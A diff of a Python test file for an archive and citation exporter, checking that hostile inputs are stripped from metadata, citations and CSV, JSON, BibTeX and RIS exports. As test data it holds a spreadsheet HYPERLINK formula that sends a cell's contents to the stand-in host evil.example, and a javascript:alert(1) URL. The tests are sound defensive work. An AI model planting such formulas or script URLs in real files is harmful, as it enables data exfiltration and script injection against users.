@@ -22,6 +22,7 @@ from archive.cite import cite
 from archive.export import csv_cell
 from indexer.build import build
 from tests.cli_helpers import ROOT, run_module
+from tests.document_records import record
 
 ACCESSED = date(2026, 1, 2)
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -89,15 +90,15 @@ def test_bibtex_fields_are_one_line_with_balanced_braces(hostile: Path) -> None:
 def test_javascript_addresses_are_dropped_at_extraction_with_a_warning(hostile: Path) -> None:
     archive = Archive(hostile)
     meta = archive.metadata("canonical.html")
-    assert meta["url"] is None
-    assert any("javascript" in n and "not a web address" in n for n in meta["notes"])
+    assert meta.url is None
+    assert any("javascript" in n and "not a web address" in n for n in meta.notes)
     for fmt in ("csv", "json", "bibtex", "ris"):
         assert "javascript" not in archive.export(SearchRequest(query="canonical"), fmt, accessed=ACCESSED)
     assert [w["path"].rsplit("/", 1)[1] for w in archive.stats().to_json()["warnings"]] == ["canonical.html"]
 
 
 def test_citations_of_a_javascript_url_leave_it_out() -> None:
-    meta = {"kind": "statement", "title": "T", "date": "2020", "url": "javascript:alert(1)", "authors": []}
+    meta = record(kind="statement", title="T", date="2020", url="javascript:alert(1)", authors=[])
     for style in ("apa", "mla", "chicago", "bibtex", "ris"):
         assert "javascript" not in cite(meta, style, "Org", accessed=ACCESSED)
 
